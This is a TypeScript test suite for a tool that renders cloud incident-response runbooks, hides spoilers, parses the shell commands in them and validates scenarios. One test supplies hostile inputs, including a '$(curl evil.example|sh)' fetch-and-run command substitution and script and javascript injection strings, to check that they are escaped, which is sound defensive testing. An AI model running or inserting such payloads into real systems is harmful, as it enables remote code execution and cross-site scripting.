import { expect } from 'chai';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadScenario } from '../../src/scenario/load.js';
import { validateScenarios } from '../../src/scenario/validate.js';
import { packageRoot } from '../../src/paths.js';
import {
  markdownText,
  renderRunbook,
  runbookContext,
  RunbookError,
  shellValue,
  type ExerciseFacts,
} from '../../src/runbook/render.js';
import { checkExpectations, shellBlocks } from '../../src/runbook/commands.js';
import { renderScenarioRunbook } from '../../src/runbook/write.js';

const ssh = loadScenario('ssh-open-to-world');
const facts = (outputs: Record<string, string> = {}): ExerciseFacts => ({
  exerciseId: 'gd-1',
  accountId: '123456789012',
  region: 'eu-west-1',
  target: { kind: 'range', endpoint: 'http://127.0.0.1:4566', description: 'the range' },
  outputs: { WebSgId: 'sg-0123456789abcdef0', BastionCidr: '10.0.0.0/24', VpcId: 'vpc-1', ...outputs },
  actions: {},
});
const render = (template: string, f: ExerciseFacts | null = facts(), spoilers = false) =>
  renderRunbook(template, ssh.scenario, runbookContext(ssh.scenario, ssh.template.outputs, f ?? undefined), {
    spoilers,
  });

describe('runbooks: rendering', () => {
  it('hides what responders must discover, and shows it only with spoilers', () => {
    const t = 'Group {{discover "security-group-id" outputs.WebSgId}} in {{region}}';
    expect(render(t).markdown).to.equal('Group <security-group-id> in eu-west-1');
    expect(render(t, facts(), true).markdown).to.equal('Group sg-0123456789abcdef0 in eu-west-1');
    expect(render(t).discoveries).to.deep.equal([
      { label: 'security-group-id', value: 'sg-0123456789abcdef0' },
    ]);
  });

  it('never prints a spoiler elsewhere in a spoiler-free runbook, even when the template slips', () => {
    const t = '{{discover "security-group-id" outputs.WebSgId}} and again {{outputs.WebSgId}}';
    expect(render(t).markdown).to.equal('<security-group-id> and again <security-group-id>');
  });

  it('the shipped ssh-open-to-world runbook gives away no group id without spoilers', () => {
    const r = renderScenarioRunbook(ssh, facts());
    expect(r.markdown).not.to.contain('sg-0123456789abcdef0');
    expect(r.markdown).to.contain('<security-group-id>').and.to.contain('10.0.0.0/24');
    const spoiled = renderScenarioRunbook(ssh, facts(), { spoilers: true });
    expect(spoiled.markdown).to.contain('sg-0123456789abcdef0');
  });

  it('without an exercise, every exercise fact is a visible placeholder', () => {
    const r = render('{{exercise.id}} {{account.id}} {{region}} {{outputs.VpcId}}', null);
    expect(r.markdown).to.equal('<exercise-id> <account-id> <region> <VpcId>');
  });

  it('makes hostile values safe to paste into a shell and harmless in Markdown', () => {
    const hostile = facts({ VpcId: '$(curl evil.example|sh) `id` <script>alert(1)</script>\n# x' });
    const out = render('```sh\naws ec2 describe-vpcs --vpc-ids {{outputs.VpcId}}\n```', hostile).markdown;
    expect(out).to.contain(`--vpc-ids '$?curl evil.example|sh? ?id? ?script?alert?1??/script??# x'`);
    expect(render('See {{outputs.VpcId}}.', facts({ VpcId: '[x](javascript:alert(1))' })).markdown).to.equal(
      "See '?x??javascript:alert?1??'.",
    );
    expect(shellValue("it's")).to.equal(`'it'\\''s'`);
    expect(shellValue('sg-123')).to.equal('sg-123');
    expect(markdownText('[click](javascript:alert(1)) <b>x</b> *y*')).to.equal(
      '\\[click\\]\\(javascript:alert\\(1\\)\\) &lt;b&gt;x&lt;/b&gt; \\*y\\*',
    );
  });

  it('is strict: a misspelt name or a bad discover label is an error naming the file', () => {
    expect(() => render('{{outputs.WebSGId}}')).to.throw(RunbookError, /WebSGId/);
    expect(() => render('{{discover "Bad Label" outputs.WebSgId}}')).to.throw(
      RunbookError,
      /kebab-case label/,
    );
    expect(() => render('{{constructor.name}}')).to.throw(RunbookError);
  });
});

describe('runbooks: commands and expectations', () => {
  it('splits shell blocks into commands as bash reads them, with their expectations', () => {
    const md = [
      'Text',
      '',
      '   ```sh',
      '   aws ec2 describe-security-groups \\',
      "     --query 'SecurityGroups[].{id:GroupId,",
      "     x:VpcId}' --output text",
      '   # expect output to contain: sg-1',
      '   # expect output not to contain: 0.0.0.0/0',
      '   VPC=$(aws ec2 describe-vpcs --output text) # a comment',
      '   ```',
      '',
      '```text',
      'aws not a command',
      '```',
      '```bash',
      'aws s3 ls',
      '# expect no output',
      'aws iam get-user --user-name x',
      '# expect error: NoSuchEntity',
      '```',
    ].join('\n');
    const blocks = shellBlocks(md);
    expect(blocks.map((b) => b.line)).to.deep.equal([3, 15]);
    const [first, second] = blocks.map((b) => b.commands);
    expect(first!.map((c) => [c.line, c.program])).to.deep.equal([
      [4, 'aws'],
      [9, 'VPC='],
    ]);
    expect(first![0]!.text).to.contain("x:VpcId}' --output text");
    expect(first![0]!.expect).to.deep.equal([
      { kind: 'contains', text: 'sg-1' },
      { kind: 'not-contains', text: '0.0.0.0/0' },
    ]);
    expect(second!.map((c) => c.expect)).to.deep.equal([
      [{ kind: 'empty' }],
      [{ kind: 'error', code: 'NoSuchEntity' }],
    ]);
  });

  it('judges a command by its exit status and what the runbook says to expect', () => {
    const [cmd] = shellBlocks('```sh\naws x\n# expect output to contain: ok\n```').flatMap((b) => b.commands);
    expect(checkExpectations(cmd!, { code: 0, stdout: 'all ok', stderr: '' })).to.deep.equal([]);
    expect(checkExpectations(cmd!, { code: 0, stdout: 'nope', stderr: '' })[0]).to.contain('to contain "ok"');
    expect(checkExpectations(cmd!, { code: 255, stdout: '', stderr: 'An error occurred (X)' })[0]).to.contain(
      'exit code 255',
    );
    const [fails] = shellBlocks('```sh\naws x\n# expect error: NoSuchEntity\n```').flatMap((b) => b.commands);
    expect(checkExpectations(fails!, { code: 254, stdout: '', stderr: '(NoSuchEntity) no' })).to.deep.equal(
      [],
    );
    expect(checkExpectations(fails!, { code: 0, stdout: '', stderr: '' })[0]).to.contain('but it succeeded');
  });
});

describe('runbooks: validation', () => {
  let dir: string;
  const shipped = readFileSync(join(packageRoot(), 'scenarios', 'ssh-open-to-world.yaml'), 'utf8');
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'sirs-runbook-validate-'));
    for (const d of ['scenarios', 'templates', 'runbooks']) mkdirSync(join(dir, d));
    writeFileSync(
      join(dir, 'templates', 'ssh-open-to-world.cfn.yaml'),
      readFileSync(join(packageRoot(), 'templates', 'ssh-open-to-world.cfn.yaml'), 'utf8'),
    );
  });
  after(() => rmSync(dir, { recursive: true, force: true }));
  const check = (yaml: string, runbook: string) => {
    writeFileSync(join(dir, 'runbooks', 'network-exposure.md.hbs'), runbook);
    writeFileSync(join(dir, 'scenarios', 'ssh-open-to-world.yaml'), yaml);
    return validateScenarios([join(dir, 'scenarios', 'ssh-open-to-world.yaml')], { cwd: dir, root: dir })
      .files[0]!;
  };

  it('renders the runbook: a value the scenario does not give is reported at its line in the runbook', () => {
    const r = check(shipped, '# Title\n\nGroup {{values.groupId}}\nPort {{values.prot}}\n');
    expect(r.valid).to.equal(false);
    expect(r.problems.map((p) => [p.file.endsWith('network-exposure.md.hbs'), p.line, p.code])).to.deep.equal(
      [[true, 4, 'runbook-render']],
    );
    expect(r.problems[0]!.message).to.contain('prot');
    expect(check(shipped, 'Group {{values.groupId}}\n').valid).to.equal(true);
  });

  it('checks action ids: unique, referenced only after they exist, keys only from CreateAccessKey', () => {
    const actions = `  actions:
    - call: iam:ListUsers
      input: { Marker: '{{actions.later.Key}}' }
    - id: later
      call: iam:ListUsers
    - id: later
      call: iam:ListUsers
    - call: iam:ListUsers
      as: key:later
    - call: iam:ListUsers
      as: key:nothing
phases:`;
    const yaml = shipped.replace(/\nphases:/, `\n${actions}`);
    const r = check(yaml, 'x\n');
    expect(r.problems.map((p) => p.code).sort()).to.deep.equal(
      ['duplicate-action-id', 'not-a-key-action', 'unknown-action', 'unknown-key-action'].sort(),
    );
  });
});
